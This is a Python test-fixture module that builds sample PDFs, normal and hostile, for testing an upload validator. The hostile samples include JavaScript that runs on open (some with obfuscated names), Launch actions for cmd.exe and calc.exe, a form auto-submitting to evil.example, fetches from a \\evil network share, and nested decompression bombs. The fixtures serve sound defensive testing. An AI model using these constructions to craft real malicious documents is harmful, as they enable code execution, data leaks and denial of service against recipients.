"""PDFs for the corpus of uploads: those that people have, and those that somebody made to do harm.

Each made when it is asked for.
"""

import io
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pikepdf
from motcua_documents.signing import Signer
from pikepdf import Array, Dictionary, Name, String
from pyhanko.pdf_utils.generic import NameObject
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

Change = Callable[[pikepdf.Pdf], object]


@cache
def plain(pages: int = 1) -> bytes:
    """As a printer driver makes it."""
    out = io.BytesIO()
    drawn = canvas.Canvas(out, pagesize=A4, pageCompression=1)
    for number in range(pages):
        drawn.drawString(72, 700, f"Don de nghi, trang {number + 1}")
        drawn.showPage()
    drawn.save()
    return out.getvalue()


def one_page(note: bytes = b"") -> bytes:
    """A small PDF with a page of its own: `note` makes its bytes, and so its hash, another."""
    return plain() + b"% " + note.hex().encode() + b"\n"


def saved(change: Change = lambda pdf: None, base: bytes = b"", **how: Any) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(base or plain())) as pdf:
        change(pdf)
        pdf.save(out, **how)
    return out.getvalue()


def raw(*objects: bytes, header: bytes = b"%PDF-1.7\n", trailer: bytes = b"") -> bytes:
    """A file written by hand: object 1 is the catalogue, 2 the pages."""
    out, places = bytearray(header), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
        b"%010d 00000 n \n" % place for place in places
    )
    out += b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        start,
    )
    return bytes(out)


CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>"


def stream(data: bytes, told: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), told, data)


def drawing(contents: bytes, *more: bytes) -> bytes:
    return raw(CATALOGUE, PAGES, PAGE, contents, *more)


def picture(width: int, height: int, data: bytes, told: bytes) -> bytes:
    named = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray %b" % (
        width,
        height,
        told,
    )
    return drawing(stream(b""), stream(data, named))


@cache
def signed(times: int = 1) -> bytes:
    from tests.unit.documents.samples import (  # of the tests of documents, which alone ask for it
        AT,
        make_keys,
    )

    with TemporaryDirectory() as folder:
        keys = make_keys(Path(folder) / "keys")
        data = Signer.load(keys.key, keys.cert).sign(plain(), "Ký đơn", AT)
    for _ in range(times - 1):
        writer = IncrementalPdfFileWriter(io.BytesIO(data))
        writer.root["/PageMode"] = NameObject("/UseNone")
        writer.update_root()  # type: ignore[no-untyped-call] # pyHanko ships no types
        out = io.BytesIO()
        writer.write(out)  # type: ignore[no-untyped-call]
        data = out.getvalue()
    return data


def action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name("/" + kind), **more)


def annotation(pdf: pikepdf.Pdf, subtype: str, **more: Any) -> None:
    note = Dictionary(
        Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([10, 10, 200, 40]), **more
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])


def at_open(kind: str, **more: Any) -> bytes:
    return saved(lambda pdf: setattr(pdf.Root, "OpenAction", action(kind, **more)))


def field(pdf: pikepdf.Pdf, **more: Any) -> None:
    annotation(pdf, "Widget", FT=Name.Tx, T=String("ho_ten"), V=String("Nguyen Van A"), **more)
    pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].obj.Annots)


def attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["hoa-don.xml"] = pikepdf.AttachedFileSpec(pdf, b"<x/>", filename="hoa-don.xml")


def script_in_names(pdf: pikepdf.Pdf) -> None:
    code = pdf.make_indirect(action("JavaScript", JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), code])))


def launch_later(pdf: pikepdf.Pdf) -> None:
    """A link that goes to a page, and then starts a program."""
    after = pdf.make_indirect(action("Launch", F=String("calc.exe")))
    annotation(pdf, "Link", A=action("GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=after))


def deep(pdf: pikepdf.Pdf) -> None:
    inner = Dictionary(AA=Dictionary())
    for _ in range(300):
        inner = Dictionary(X=inner)
    pdf.Root.PieceInfo = inner


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("a.txt", "a")
    return out.getvalue()


def bomb(levels: int = 1) -> bytes:
    data = zlib.compress(bytes(80_000_000), 9)
    for _ in range(levels - 1):
        data = zlib.compress(data, 9)
    return drawing(stream(data, b"/Filter [%b]" % (b"/FlateDecode " * levels)))


def jpeg_header(width: int, height: int) -> bytes:
    size = bytes([8]) + height.to_bytes(2, "big") + width.to_bytes(2, "big") + b"\x01\x01\x11\x00"
    return (
        b"\xff\xd8\xff\xc0"
        + (len(size) + 2).to_bytes(2, "big")
        + size
        + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\0\0\xff\xd9"
    )


JS = String("this.exportDataObject({cName: 'a'})")
OK = "application/pdf"
GREY = b"/BitsPerComponent 8 /Filter /FlateDecode"
HTML = b"<html><script>alert(1)</script></html>"

PDFS: dict[str, tuple[str, Callable[[], bytes]]] = {
    # what people have
    "pdf-printed": (OK, lambda: plain(3)),
    "pdf-of-word-2.0": (
        OK,
        lambda: saved(force_version="2.0", object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    "pdf-linearized": (OK, lambda: saved(linearize=True)),
    "pdf-with-a-byte-order-mark": (OK, lambda: b"\xef\xbb\xbf" + plain()),
    "pdf-behind-line-breaks": (OK, lambda: b"\r\n\r\n" + plain()),
    "pdf-behind-blanks": (OK, lambda: b" " * 1_000 + plain()),
    "pdf-of-a-printer": (
        OK,
        lambda: b"\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n" + plain(),
    ),
    "pdf-signed": (OK, signed),
    "pdf-signed-then-added-to": (OK, lambda: signed(3)),
    "pdf-form-filled": (OK, lambda: saved(field)),
    "pdf-with-links": (
        OK,
        lambda: saved(
            lambda pdf: annotation(pdf, "Link", A=action("URI", URI=String("https://hh.example")))
        ),
    ),
    "pdf-opens-at-a-page": (
        OK,
        lambda: saved(
            lambda pdf: setattr(pdf.Root, "OpenAction", Array([pdf.pages[0].obj, Name.Fit]))
        ),
    ),
    "pdf-with-a-button-that-submits": (
        OK,
        lambda: saved(
            lambda pdf: field(pdf, A=action("SubmitForm", F=String("https://hh.example")))
        ),
    ),
    "pdf-with-no-files-in-its-list": (
        OK,
        lambda: saved(
            lambda pdf: setattr(
                pdf.Root, "Names", Dictionary(EmbeddedFiles=Dictionary(Names=Array([])))
            )
        ),
    ),
    "pdf-with-a-moved-table": (OK, lambda: plain().replace(b"\n", b"\n% edited by hand\n", 1)),
    "pdf-with-windows-line-ends": (OK, lambda: drawing(stream(b"0 0 m")).replace(b"\n", b"\r\n")),
    "pdf-without-its-last-line": (OK, lambda: plain().rstrip().removesuffix(b"%%EOF")),
    "pdf-padded": (OK, lambda: plain() + bytes(4_096)),
    "pdf-with-a-mails-footer": (OK, lambda: plain() + b"\r\n--\r\nSent from my phone\r\n"),
    "pdf-large-scan": (OK, lambda: picture(2480, 3508, zlib.compress(bytes(2480 * 3508)), GREY)),
    "pdf-plan-of-a0": (
        OK,
        lambda: picture(
            19_866, 28_087, b"\0\x10\x01", b"/BitsPerComponent 1 /Filter /CCITTFaxDecode"
        ),
    ),
    "pdf-with-a-wrong-checksum": (
        OK,
        lambda: drawing(stream(zlib.compress(b"0 0 m")[:-4] + b"abcd", b"/Filter /FlateDecode")),
    ),
    "pdf-with-600-pages": (OK, lambda: plain(600)),
    # locked
    "pdf-with-a-password": (
        "password",
        lambda: saved(encryption=pikepdf.Encryption(user="bi-mat", owner="bi-mat")),
    ),
    "pdf-with-restricted-rights": (
        "encrypted",
        lambda: saved(encryption=pikepdf.Encryption(user="", owner="bi-mat")),
    ),
    "pdf-locked-the-old-way": (
        "encrypted",
        lambda: saved(
            encryption=pikepdf.Encryption(user="", owner="x", R=3, aes=False, metadata=False)
        ),
    ),
    # does something
    "pdf-script-when-opened": ("script", lambda: at_open("JavaScript", JS=JS)),
    "pdf-script-in-its-names": ("script", lambda: saved(script_in_names)),
    "pdf-script-in-an-object-stream": (
        "script",
        lambda: saved(script_in_names, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    "pdf-script-of-a-field": (
        "script",
        lambda: saved(lambda pdf: field(pdf, AA=Dictionary(K=action("JavaScript", JS=JS)))),
    ),
    "pdf-script-with-a-spelled-name": (
        "script",
        lambda: (
            at_open("JavaScript", JS=JS)
            .replace(b"/JavaScript", b"/J#61vaScri#70t")
            .replace(b"/JS", b"/J#53")
        ),
    ),
    "pdf-script-that-nothing-names": (
        "script",
        lambda: drawing(stream(b""), b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    ),
    "pdf-launches-a-program": (
        "launch",
        lambda: saved(lambda pdf: annotation(pdf, "Link", A=action("Launch", F=String("cmd.exe")))),
    ),
    "pdf-launches-after-a-link": ("launch", lambda: saved(launch_later)),
    "pdf-launches-in-a-structure's-clothes": (
        "launch",
        lambda: drawing(stream(b""), b"<< /Type /StructElem /K 0 /S /Launch /F (cmd.exe) >>"),
    ),
    "pdf-launches-by-a-name-elsewhere": (
        "launch",
        lambda: drawing(stream(b""), b"<< /S 6 0 R /F (cmd.exe) >>", b"/Launch"),
    ),
    "pdf-script-by-a-name-elsewhere": (
        "script",
        lambda: drawing(stream(b""), b"<< /S 6 0 R /JS 7 0 R >>", b"/JavaScript", b"(a)"),
    ),
    "pdf-imports-data": (
        "launch",
        lambda: saved(
            lambda pdf: annotation(pdf, "Link", A=action("ImportData", F=String("a.fdf")))
        ),
    ),
    "pdf-opens-an-address": (
        "automatic-action",
        lambda: at_open("URI", URI=String("https://evil.example")),
    ),
    "pdf-submits-when-a-page-opens": (
        "automatic-action",
        lambda: saved(
            lambda pdf: setattr(
                pdf.pages[0].obj,
                "AA",
                Dictionary(O=action("SubmitForm", F=String("https://evil.example"))),
            )
        ),
    ),
    "pdf-fetches-a-stream": (
        "remote-content",
        lambda: drawing(stream(b"", b"/F (\\\\\\\\evil\\\\a)")),
    ),
    "pdf-goes-to-a-share": (
        "remote-content",
        lambda: saved(
            lambda pdf: annotation(
                pdf, "Link", A=action("GoToR", F=String("\\\\evil\\a.pdf"), D=Array([0, Name.Fit]))
            )
        ),
    ),
    # holds something
    "pdf-with-an-attachment": ("embedded-file", lambda: saved(attached)),
    "pdf-with-a-pinned-file": (
        "embedded-file",
        lambda: saved(lambda pdf: annotation(pdf, "FileAttachment", FS=Dictionary(F=String("a")))),
    ),
    "pdf-portfolio": (
        "embedded-file",
        lambda: saved(lambda pdf: setattr(pdf.Root, "Collection", Dictionary(View=Name.D))),
    ),
    "pdf-rich-media": ("rich-media", lambda: saved(lambda pdf: annotation(pdf, "RichMedia"))),
    "pdf-film": (
        "rich-media",
        lambda: saved(lambda pdf: annotation(pdf, "Screen", A=action("Rendition"))),
    ),
    "pdf-dynamic-form": (
        "xfa",
        lambda: saved(
            lambda pdf: setattr(
                pdf.Root,
                "AcroForm",
                Dictionary(Fields=Array([]), XFA=Array([String("xdp"), pdf.make_stream(b"<x/>")])),
            )
        ),
    ),
    # broken off, or another file
    "pdf-cut-in-half": ("cut-off", lambda: plain(20)[: len(plain(20)) // 2]),
    "pdf-cut-at-its-table": ("cut-off", lambda: plain(20)[: plain(20).rindex(b"startxref") - 5]),
    "pdf-linearized-cut": ("cut-off", lambda: saved(base=plain(20), linearize=True)[:-1_500]),
    "pdf-signed-cut": ("cut-off", lambda: signed(2)[:-60]),
    "pdf-without-objects": ("damaged", lambda: b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF\n"),
    "pdf-by-name-only": ("cut-off", lambda: b"%PDF-1.7\n" + b"a page\n" * 1_000),
    "pdf-without-pages": (
        "damaged",
        lambda: raw(CATALOGUE, b"<< /Type /Pages /Kids [] /Count 0 >>"),
    ),
    "pdf-with-overwritten-contents": (
        "damaged",
        lambda: drawing(
            stream(zlib.compress(b"0 0 m\n" * 900)[:20] + bytes(40), b"/Filter /FlateDecode")
        ),
    ),
    "pdf-behind-a-web-page": ("media-type", lambda: HTML + plain()),
    "pdf-behind-a-program": ("media-type", lambda: b"MZ" + bytes(100) + plain()),
    "pdf-too-far-behind": ("media-type", lambda: b" " * 1_025 + plain()),
    "pdf-before-an-archive": ("trailing-data", lambda: plain() + archive()),
    "pdf-before-a-web-page": ("trailing-data", lambda: plain() + HTML),
    "pdf-before-a-disk": ("trailing-data", lambda: plain() + b"\x01" * 5_000),
    # made to be too much
    "pdf-bomb": ("too-complex", bomb),
    "pdf-bomb-in-a-bomb": ("too-complex", lambda: bomb(2)),
    "pdf-bomb-of-filters": (
        "too-complex",
        lambda: drawing(stream(b"a", b"/Filter [%b]" % (b"/FlateDecode " * 9))),
    ),
    "pdf-of-too-many-objects": ("too-complex", lambda: drawing(stream(b""), *[b"null"] * 300_001)),
    "pdf-nested-too-deep": ("too-complex", lambda: saved(deep)),
    "pdf-with-2001-pages": ("too-many-pages", lambda: plain(2_001)),
    "pdf-picture-of-60000": (
        "too-many-pixels",
        lambda: picture(60_000, 60_000, zlib.compress(b"a"), GREY),
    ),
    "pdf-photo-of-60000": (
        "too-many-pixels",
        lambda: picture(
            100, 100, jpeg_header(60_000, 60_000), b"/BitsPerComponent 8 /Filter /DCTDecode"
        ),
    ),
    "pdf-whose-pages-hold-themselves": (
        "damaged",
        lambda: raw(CATALOGUE, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
    ),
}
